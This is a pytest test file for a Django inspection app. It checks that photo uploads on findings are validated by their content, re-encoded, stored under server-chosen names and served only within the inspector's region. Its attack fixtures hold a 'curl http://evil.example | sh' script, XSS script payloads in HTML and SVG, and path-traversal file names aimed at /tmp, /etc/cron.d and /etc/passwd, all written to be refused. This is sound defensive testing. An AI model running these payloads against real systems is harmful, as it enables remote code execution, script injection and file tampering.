"""Notes and photos on findings (page and API, one schema): a photo is judged by its content, not its name;
stored re-encoded outside the database under a name of the server's; served only in scope. The attacks: a
script renamed .jpg, an SVG, an oversize file, a decompression bomb, a path in the name, a polyglot, a
Shenzhen photo asked for from Guangzhou."""

from __future__ import annotations

import io
import os

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from fangkong.audit.models import AuditEvent

from .. import photos, services
from ..models import Finding, FindingPhoto
from .builders import make_place, pass_all

pytestmark = pytest.mark.django_db


def image_bytes(kind: str = "JPEG", size=(64, 48), **save) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, format=kind, **save)
    return out.getvalue()


@pytest.fixture
def finding(gz_inspector):
    place = make_place(gz_inspector, region="440106", name="天河拍照市场")
    services.inspection_record(actor=gz_inspector, place=place.pk, inspected_on=timezone.localdate(),
                               results={**pass_all(place), "G2": "fail"})
    return Finding.objects.get()


def stored_files() -> list[str]:
    root = photos.photo_dir()
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()) if root.exists() else []


def test_a_photo_and_a_note_from_the_page_and_the_api_are_stored_apart_and_served_in_scope(client, finding,
                                                                                          gz_inspector):
    client.force_login(gz_inspector)
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # metadata a phone writes (GPS likewise): dropped by the re-encoding
    jpeg = image_bytes("JPEG", exif=exif)
    assert b"PhoneMaker" in jpeg
    answer = client.post(reverse("places:finding-annotate", kwargs={"pk": finding.pk}),
                         {"note": "消毒记录缺两天", "photo": SimpleUploadedFile("现场.jpg", jpeg, "image/jpeg")})
    assert answer.status_code == 302
    api = client.post(f"/api/v1/place-findings/{finding.pk}/annotate/",
                      {"photo": SimpleUploadedFile("b.png", image_bytes("PNG"), "image/png")})
    assert api.status_code == 200, api.content
    assert [p["content_type"] for p in api.json()["photos"]] == ["image/jpeg", "image/png"]
    finding.refresh_from_db()
    assert finding.note == "消毒记录缺两天"
    first, second = FindingPhoto.objects.order_by("id")
    assert (first.width, first.height, first.original_name, first.region_id) == (64, 48, "现场.jpg", "440106")
    assert stored_files() == sorted([first.key, second.key])
    assert all(key.startswith(f"{finding.inspection_id}/") for key in stored_files())
    assert b"PhoneMaker" not in photos.path_of(first.key).read_bytes()
    served = client.get(reverse("places:finding-photo", kwargs={"pk": first.pk}))
    assert served.status_code == 200 and served["Content-Type"] == "image/jpeg"
    assert served["X-Content-Type-Options"] == "nosniff" and "sandbox" in served["Content-Security-Policy"]
    assert b"".join(served.streaming_content) == photos.path_of(first.key).read_bytes()
    page = client.get(reverse("places:inspection-detail", kwargs={"pk": finding.inspection_id})).content.decode()
    assert reverse("places:finding-photo", kwargs={"pk": first.pk}) in page and "消毒记录缺两天" in page
    assert AuditEvent.objects.filter(object_type="places.finding", action=AuditEvent.Action.UPDATE).count() == 2


ATTACKS = {
    "a script renamed .jpg": ("photo.jpg", b"#!/bin/sh\ncurl http://evil.example | sh\n", "image/jpeg"),
    "html renamed .png": ("photo.png", b"<html><script>alert(1)</script></html>", "image/png"),
    "an SVG with a script": ("photo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
                             "image/svg+xml"),
    "a GIF (not an allowed kind)": ("photo.jpg", None, "image/jpeg"),
    "a truncated JPEG": ("photo.jpg", "TRUNCATED", "image/jpeg"),
    "an empty file": ("photo.jpg", b"", "image/jpeg"),
}


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_a_file_that_is_not_a_jpeg_or_png_is_refused_whatever_its_name(client, finding, gz_inspector, attack):
    name, content, declared = ATTACKS[attack]
    if content is None:
        out = io.BytesIO()
        Image.new("P", (8, 8)).save(out, format="GIF")
        content = out.getvalue()
    elif content == "TRUNCATED":
        content = image_bytes("JPEG", size=(400, 300))[:600]
    client.force_login(gz_inspector)
    api = client.post(f"/api/v1/place-findings/{finding.pk}/annotate/",
                      {"photo": SimpleUploadedFile(name, content, declared)})
    assert api.status_code == 400 and "photo" in api.json()["error"]["fields"], api.content
    page = client.post(reverse("places:finding-annotate", kwargs={"pk": finding.pk}),
                       {"note": "附件", "photo": SimpleUploadedFile(name, content, declared)}, follow=True)
    assert [m.level_tag for m in page.context["messages"]] == ["error"]  # refused, said so on the page
    finding.refresh_from_db()
    assert finding.note == "" and not FindingPhoto.objects.exists() and stored_files() == []


def test_an_oversize_file_and_a_decompression_bomb_are_refused(client, finding, gz_inspector):
    client.force_login(gz_inspector)
    big = image_bytes("JPEG") + os.urandom(photos.MAX_BYTES)  # a real JPEG head, over the cap
    api = client.post(f"/api/v1/place-findings/{finding.pk}/annotate/", {"photo": SimpleUploadedFile("big.jpg", big)})
    assert api.status_code == 400 and "5" in str(api.json()["error"]["fields"]["photo"])  # names the cap
    bomb = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(bomb, format="PNG", optimize=True)  # 100 MP, a few kB packed
    assert len(bomb.getvalue()) < 100_000
    api = client.post(f"/api/v1/place-findings/{finding.pk}/annotate/",
                      {"photo": SimpleUploadedFile("bomb.png", bomb.getvalue(), "image/png")})
    assert api.status_code == 400 and "photo" in api.json()["error"]["fields"]
    assert not FindingPhoto.objects.exists() and stored_files() == []


def test_a_path_in_the_name_writes_nowhere_else_and_a_polyglot_loses_its_payload(client, finding, gz_inspector,
                                                                                 tmp_path):
    client.force_login(gz_inspector)
    outside = photos.photo_dir().parent
    before = sorted(p.name for p in outside.iterdir()) if outside.exists() else []
    payload = b"<script>alert('x')</script>"
    for name in ("../../../../tmp/evil.jpg", "..\\..\\evil.jpg", "/etc/cron.d/evil.jpg"):
        api = client.post(f"/api/v1/place-findings/{finding.pk}/annotate/",
                          {"photo": SimpleUploadedFile(name, image_bytes("JPEG") + payload, "image/jpeg")})
        assert api.status_code == 200, api.content
    assert not os.path.exists("/tmp/evil.jpg") and not os.path.exists("/etc/cron.d/evil.jpg")
    keys = stored_files()
    assert len(keys) == 3 and all(".." not in k and "evil" not in k for k in keys)
    assert sorted(FindingPhoto.objects.values_list("original_name", flat=True)) == ["evil.jpg"] * 3  # a label
    assert all(payload not in photos.path_of(k).read_bytes() for k in keys)  # re-encoded: the payload is gone
    assert sorted(p.name for p in outside.iterdir()) == sorted({*before, photos.photo_dir().name})
    with pytest.raises(FileNotFoundError):
        photos.path_of("../../etc/passwd")


def test_photos_are_served_and_taken_only_in_scope(client, finding, gz_inspector, sz_inspector, guangzhou_epi):
    services.finding_annotate(actor=gz_inspector, finding=finding.pk,
                              photo=photos.checked_image(SimpleUploadedFile("a.jpg", image_bytes())))
    photo = FindingPhoto.objects.get()
    url = reverse("places:finding-photo", kwargs={"pk": photo.pk})
    client.force_login(sz_inspector)  # another city: not found, and nothing added
    assert client.get(url).status_code == 404
    assert client.post(f"/api/v1/place-findings/{finding.pk}/annotate/",
                       {"photo": SimpleUploadedFile("b.jpg", image_bytes())}).status_code == 404
    assert client.post(reverse("places:finding-annotate", kwargs={"pk": finding.pk}),
                       {"note": "越权", "photo": SimpleUploadedFile("b.jpg", image_bytes())}).status_code == 404
    client.force_login(guangzhou_epi)  # reads the city's aggregates, may not inspect
    assert client.get(url).status_code == 200
    assert client.post(f"/api/v1/place-findings/{finding.pk}/annotate/",
                       {"photo": SimpleUploadedFile("b.jpg", image_bytes())}).status_code == 403
    client.logout()
    assert client.get(url).status_code in (302, 403)
    finding.refresh_from_db()
    assert FindingPhoto.objects.count() == 1 and finding.note == "" and len(stored_files()) == 1
